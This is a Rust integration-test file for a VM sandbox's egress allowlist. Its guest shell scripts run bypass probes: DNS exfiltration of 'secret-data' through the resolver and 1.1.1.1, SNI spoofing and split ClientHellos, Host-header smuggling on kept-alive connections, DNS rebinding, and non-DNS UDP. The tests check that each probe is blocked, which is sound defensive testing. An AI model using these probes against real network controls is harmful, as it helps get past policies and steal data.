//! The egress allowlist (`--allow-host`, `--allow-cidr`) end to end, on
//! real VMs, inside the tests' own network namespaces
//! (`support/netlab.rs`, whose `start_egress` hosts log what reaches
//! them): with `allowed.test` allowed, its HTTP and HTTPS work, while a
//! name not allowed, denied.test's address on any port, another port of
//! allowed.test's address, a TLS ClientHello naming denied.test (whole,
//! split across segments) or no name, a second request with another Host
//! on a kept-alive connection, DNS exfiltration through any server, an
//! oversized DNS query and non-DNS UDP all fail, and their targets see
//! nothing; wildcards take subdomains, not the apex; names that resolve
//! into denied ranges get NXDOMAIN; `--allow-cidr` with a port opens that
//! port of those addresses only, with `--net` too; the deny counters, per
//! reason, in `vmette -v run`'s summary and `vmette ps --json`; bad values
//! refused before a VM starts; a download's rate through the allowlist
//! against plain `--net`.

mod support;

use std::io::Read;
use std::process::Output;
use std::sync::Once;
use std::time::{Duration, Instant};

use support::netlab::{one, NetLab, ALLOWED, CDN, DENIED, RAW, RAW_NEIGHBOUR};
use support::{code, sha256_of, stderr, stdout, Sandbox, TestDaemon};

const BIG: usize = 100 << 20;

/// The deny counters' reasons, in the order the summary line names them.
const REASONS: [&str; 7] = ["dns", "ip", "sni", "host", "port", "udp", "rebind"];

/// The guest's shell helper: the status of a `dig` for `$@` (one try, so a
/// query is counted once).
const STATUS: &str =
    "status() { dig +tries=1 +time=3 \"$@\" | sed -n 's/.*status: \\([A-Z]*\\).*/\\1/p'; }; ";

/// The preset the tests' guests use, built once per run in the user's
/// store (which later runs reuse).
fn presets() {
    static BUILT: Once = Once::new();
    BUILT.call_once(|| {
        let output = Sandbox::new().run(&["-q", "setup", "--presets", "toolbox"]);
        assert_eq!(code(&output), 0, "setup --presets: {}", stderr(&output));
    });
}

/// A lab with the egress hosts.
fn lab() -> NetLab {
    presets();
    NetLab::new().start_egress()
}

/// The `--share` value that puts the lab's CA certificate and probes at
/// `/lab` in the guest.
fn share(lab: &NetLab) -> String {
    format!("{}:/lab", lab.share().display())
}

/// The summary `vmette -v run` prints at exit for these counts.
fn summary(counts: [u64; 7]) -> String {
    let each: Vec<String> = REASONS
        .iter()
        .zip(counts)
        .map(|(reason, n)| format!("{reason} {n}"))
        .collect();
    format!("vmette: refused by the network policy: {}", each.join(", "))
}

/// The packets the watcher saw to `address` with IP protocol `proto` (6
/// TCP, 17 UDP) and, if given, that destination port.
fn packets(lab: &NetLab, address: &str, proto: &str, port: Option<u16>) -> Vec<String> {
    lab.packets_to(address)
        .into_iter()
        .filter(|p| {
            let fields: Vec<&str> = p.split(' ').collect();
            fields.get(2) == Some(&proto)
                && port.is_none_or(|port| fields.get(3).copied() == Some(port.to_string().as_str()))
        })
        .collect()
}

#[test]
fn an_allowed_name_works_and_nothing_else_reaches_its_target() {
    let lab = lab();
    let sandbox = Sandbox::new();
    // In one VM, so the counters add up: curl first, so allowed.test's
    // address is bound before the probes connect to it by address.
    // Expected refusals: dns 4 (denied.test, the exfiltration through the
    // resolver and through 1.1.1.1, the oversized query), ip 3
    // (denied.test's address on 80, 443, 22), sni 3 (denied.test, none,
    // denied.test split), host 1 (the kept-alive second request), port 1
    // (allowed.test's address on 22), udp 2 (two guest ports), rebind 0.
    let script = format!(
        "{STATUS}\
         echo http: $(curl -4 -sS -m 10 http://allowed.test/); \
         echo https: $(curl -4 -sS -m 10 --cacert /lab/ca.pem https://allowed.test/); \
         curl -4 -sS -m 5 -o /dev/null http://denied.test/ 2>/dev/null; echo denied-name: $?; \
         curl -sS -m 5 -o /dev/null http://{DENIED}/ 2>/dev/null; echo denied-80: $?; \
         curl -sS -m 5 -k -o /dev/null https://{DENIED}/ 2>/dev/null; echo denied-443: $?; \
         curl -sS -m 5 --cacert /lab/ca.pem --resolve denied.test:443:{ALLOWED} -o /dev/null \
           https://denied.test/ 2>/dev/null; echo sni-denied: $?; \
         echo exfil: $(status secret-data.exfil.denied.test); \
         echo exfil-elsewhere: $(status @1.1.1.1 secret-data.exfil.denied.test); \
         python3 /lab/probe.py 'denied-22=connect {DENIED} 22' 'other-port=connect {ALLOWED} 22' \
           'no-sni=tls {ALLOWED} -' 'split=split {ALLOWED} denied.test' \
           'keep-alive=keepalive {ALLOWED} denied.test' 'udp=udp {ALLOWED} 9999 64' \
           'quic=udp {ALLOWED} 443 1200' 'big-query=bigquery padded.test'"
    );
    let share = share(&lab);
    let output = lab.run(
        &sandbox,
        &[
            "-v",
            "run",
            "--allow-host",
            "allowed.test",
            // Allowed, so that only its size refuses the oversized query.
            "--allow-host",
            "padded.test",
            "--share",
            &share,
            "toolbox",
            "--",
            "sh",
            "-c",
            &script,
        ],
    );
    let (out, err) = (stdout(&output), stderr(&output));
    assert_eq!(code(&output), 0, "{out}{err}");
    assert_eq!(one(&out, "http"), format!("hello from {ALLOWED}"), "{out}");
    assert_eq!(one(&out, "https"), format!("hello from {ALLOWED}"), "{out}");
    // 6: the name did not resolve.
    assert_eq!(one(&out, "denied-name"), "6", "{out}");
    for label in ["denied-80", "denied-443", "sni-denied"] {
        assert_ne!(one(&out, label), "0", "{label} was reached: {out}");
    }
    for label in ["denied-22", "other-port"] {
        assert_ne!(one(&out, label), "connected", "{label}: {out}");
    }
    assert!(!one(&out, "no-sni").contains("hello from"), "{out}");
    assert!(
        ["closed", "reset"].contains(&one(&out, "split").as_str()),
        "{out}"
    );
    let kept = one(&out, "keep-alive");
    assert!(
        [
            format!("200 hello from {ALLOWED}; then closed"),
            format!("200 hello from {ALLOWED}; then reset"),
        ]
        .contains(&kept),
        "{out}"
    );
    for label in ["exfil", "exfil-elsewhere"] {
        assert_eq!(one(&out, label), "NXDOMAIN", "{label}: {out}");
    }
    assert_eq!(one(&out, "big-query"), "REFUSED", "{out}");
    for label in ["udp", "quic"] {
        assert_eq!(one(&out, label), "none", "{label}: {out}");
    }

    // The targets saw nothing.
    let allowed = lab.web_log(ALLOWED);
    for seen in [
        "http allowed.test GET /",
        "tls allowed.test",
        "https allowed.test GET /",
        "http allowed.test GET /first",
    ] {
        assert!(allowed.iter().any(|l| l == seen), "{seen}: {allowed:?}");
    }
    assert!(
        !allowed
            .iter()
            .any(|l| l.contains("/second") || l.contains("denied.test") || l == "tls -"),
        "{allowed:?}"
    );
    assert!(
        !allowed.iter().any(|l| l.starts_with("tls-failed")),
        "a handshake reached allowed.test: {allowed:?}"
    );
    assert!(lab.web_log(DENIED).is_empty(), "{:?}", lab.web_log(DENIED));
    assert!(
        lab.packets_to(DENIED).is_empty(),
        "{:?}",
        lab.packets_to(DENIED)
    );
    for (proto, port) in [("6", Some(22)), ("17", None)] {
        let leaked = packets(&lab, ALLOWED, proto, port);
        assert!(leaked.is_empty(), "{leaked:?}");
    }
    assert!(
        lab.packets_to("1.1.1.1").is_empty(),
        "{:?}",
        lab.packets_to("1.1.1.1")
    );
    let queries = lab.dns_queries();
    assert!(
        queries.contains(&"allowed.test 1".to_string()),
        "{queries:?}"
    );
    for never in ["exfil", "denied.test", "padded.test"] {
        assert!(
            !queries.iter().any(|q| q.contains(never)),
            "{never}: {queries:?}"
        );
    }
    let line = summary([4, 3, 3, 1, 1, 2, 0]);
    assert!(err.lines().any(|l| l == line), "{line} not in {err}");
}

#[test]
fn wildcards_rebinding_names_and_cidr_ports_in_a_session() {
    let lab = lab();
    let sandbox = Sandbox::new();
    let daemon = TestDaemon::new(&sandbox);
    let vmette = |args: &[&str]| lab.run_with(&daemon, args);
    let ok = |output: Output| -> String {
        assert_eq!(code(&output), 0, "{}{}", stdout(&output), stderr(&output));
        stdout(&output)
    };
    let share = share(&lab);
    // --net with the allowlist means the allowlist, not everything.
    let created = ok(vmette(&[
        "create",
        "--net",
        "--allow-host",
        "*.cdn.test",
        "--allow-host",
        "*.rebind.test",
        "--allow-cidr",
        &format!("{RAW}/32:8080"),
        "--share",
        &share,
        "toolbox",
    ]));
    let id = created
        .lines()
        .last()
        .unwrap_or_default()
        .trim()
        .to_string();
    // Expected refusals: dns 1 (the apex cdn.test), ip 2 (10.0.0.5, the
    // neighbour outside the CIDR), port 1 (8081 inside it), rebind 3 (two
    // digs and curl's lookup: each query counts).
    let script = format!(
        "{STATUS}\
         echo img-http: $(curl -4 -sS -m 10 http://img.cdn.test/); \
         echo img-https: $(curl -4 -sS -m 10 --cacert /lab/ca.pem https://img.cdn.test/); \
         echo apex: $(status cdn.test); \
         echo lo-rebind: $(status lo.rebind.test); \
         echo private-rebind: $(status private.rebind.test); \
         curl -4 -sS -m 5 -o /dev/null http://private.rebind.test/ 2>/dev/null; echo private-name: $?; \
         curl -sS -m 5 -o /dev/null http://10.0.0.5/ 2>/dev/null; echo private-ip: $?; \
         python3 /lab/probe.py 'cidr=line {RAW} 8080' 'cidr-port=line {RAW} 8081' \
           'neighbour=line {RAW_NEIGHBOUR} 8080'"
    );
    let out = ok(vmette(&["exec", &id, "--", "sh", "-c", &script]));
    let listed = ok(vmette(&["ps", "--json"]));
    ok(vmette(&["stop", &id]));
    ok(vmette(&["daemon", "stop"]));
    sandbox.assert_clean();

    for label in ["img-http", "img-https"] {
        assert_eq!(one(&out, label), format!("hello from {CDN}"), "{out}");
    }
    for label in ["apex", "lo-rebind", "private-rebind"] {
        assert_eq!(one(&out, label), "NXDOMAIN", "{label}: {out}");
    }
    for label in ["private-name", "private-ip"] {
        assert_ne!(one(&out, label), "0", "{label} was reached: {out}");
    }
    assert_eq!(one(&out, "cidr"), format!("hello from {RAW}:8080"), "{out}");
    for label in ["cidr-port", "neighbour"] {
        assert!(!one(&out, label).contains("hello"), "{label}: {out}");
    }

    let sessions: serde_json::Value = serde_json::from_str(&listed).expect("ps JSON");
    let session = sessions
        .as_array()
        .and_then(|all| all.iter().find(|s| s["id"] == id.as_str()))
        .unwrap_or_else(|| panic!("{id} not in {listed}"));
    assert_eq!(session["network"], true, "{session}");
    assert_eq!(
        session["denied"],
        serde_json::json!({"dns": 1, "ip": 2, "sni": 0, "host": 0, "port": 1, "udp": 0, "rebind": 3}),
        "{session}"
    );

    let cdn = lab.web_log(CDN);
    for seen in [
        "http img.cdn.test GET /",
        "tls img.cdn.test",
        "https img.cdn.test GET /",
    ] {
        assert!(cdn.iter().any(|l| l == seen), "{seen}: {cdn:?}");
    }
    // The rebinding names were asked upstream (they are allowed), the
    // apex never.
    let queries = lab.dns_queries();
    for asked in [
        "img.cdn.test 1",
        "lo.rebind.test 1",
        "private.rebind.test 1",
    ] {
        assert!(queries.contains(&asked.to_string()), "{asked}: {queries:?}");
    }
    assert!(!queries.contains(&"cdn.test 1".to_string()), "{queries:?}");
    assert!(
        lab.packets_to("10.0.0.5").is_empty(),
        "{:?}",
        lab.packets_to("10.0.0.5")
    );
    assert_eq!(lab.connections_to(&format!("{RAW}:8080")), 1);
    for refused in [format!("{RAW}:8081"), format!("{RAW_NEIGHBOUR}:8080")] {
        assert_eq!(lab.connections_to(&refused), 0, "{refused}");
    }
    assert!(
        packets(&lab, RAW, "6", Some(8081)).is_empty(),
        "{:?}",
        lab.packets_to(RAW)
    );
    assert!(
        lab.packets_to(RAW_NEIGHBOUR).is_empty(),
        "{:?}",
        lab.packets_to(RAW_NEIGHBOUR)
    );
}

#[test]
fn a_download_through_the_allowlist_against_plain_net() {
    let lab = lab();
    let mut big = vec![0u8; BIG];
    std::fs::File::open("/dev/urandom")
        .and_then(|mut f| f.read_exact(&mut big))
        .expect("random bytes");
    let file = lab.www().join("big.bin");
    std::fs::write(&file, &big).expect("big file");
    drop(big);
    let sha = sha256_of(&file);
    // curl's own rate (bytes a second), so the boot is not in the figure.
    let download = |url: &str| {
        format!(
            "echo sha: $(curl -4 -sS -m 150 -w '%{{stderr}}rate: %{{speed_download}}\\n' {url} \
             2>/tmp/rate | sha256sum | cut -d' ' -f1); cat /tmp/rate"
        )
    };
    let mut rates = Vec::new();
    for (flags, url) in [
        (
            vec!["--allow-host", "allowed.test"],
            "http://allowed.test/big.bin".to_string(),
        ),
        (vec!["--net"], format!("http://{ALLOWED}/big.bin")),
    ] {
        let sandbox = Sandbox::new();
        let mut args = vec!["run"];
        args.extend(flags);
        let script = download(&url);
        args.extend(["toolbox", "--", "sh", "-c", &script]);
        let output = lab.run(&sandbox, &args);
        let out = stdout(&output);
        assert_eq!(code(&output), 0, "{url}: {out}{}", stderr(&output));
        assert_eq!(one(&out, "sha"), sha, "{url}: the download arrived changed");
        let rate: f64 = one(&out, "rate").parse().expect("curl's rate");
        rates.push(rate / f64::from(1 << 20));
    }
    eprintln!(
        "egress download: allowlist {:.1} MiB/s, --net {:.1} MiB/s, ratio {:.2}",
        rates[0],
        rates[1],
        rates[0] / rates[1]
    );
}

#[test]
fn bad_allowlist_values_are_refused_before_a_vm_starts() {
    let sandbox = Sandbox::new();
    // In case a create got through, its daemon is stopped.
    let daemon = TestDaemon::new(&sandbox);
    let mut cases: Vec<(Vec<&str>, &str, &str)> = Vec::new();
    for value in [
        "exa mple.com",
        "*.",
        "a..b",
        "allowed.test:70000",
        "allowed.test:0",
    ] {
        cases.push((
            vec!["run", "--allow-host", value, "--", "true"],
            "--allow-host",
            value,
        ));
    }
    for value in [
        "300.1.2.3/8",
        "10.0.0.0/33",
        "198.18.5.2/32:0",
        "198.18.5.2:70000",
    ] {
        cases.push((
            vec!["run", "--allow-cidr", value, "--", "true"],
            "--allow-cidr",
            value,
        ));
    }
    cases.push((
        vec!["shell", "--allow-host", "a..b"],
        "--allow-host",
        "a..b",
    ));
    cases.push((
        vec!["create", "--allow-cidr", "10.0.0.0/33", "toolbox"],
        "--allow-cidr",
        "10.0.0.0/33",
    ));
    for (args, flag, value) in cases {
        let started = Instant::now();
        let mut command = daemon.command(&args);
        let output =
            support::wait_with_limit(command.spawn().expect("spawn vmette"), support::RUN_LIMIT);
        let message = stderr(&output);
        assert_eq!(code(&output), 125, "{args:?}: {message}");
        assert_eq!(message.trim_end().lines().count(), 1, "{args:?}: {message}");
        assert!(
            message.starts_with("vmette: ") && !message.contains("panicked"),
            "{args:?}: {message}"
        );
        // The sentence names what was wrong.
        assert!(
            message.contains(flag) || message.contains(value),
            "{args:?}: {message}"
        );
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "{args:?} took {:?}",
            started.elapsed()
        );
    }
    sandbox.assert_clean();
}
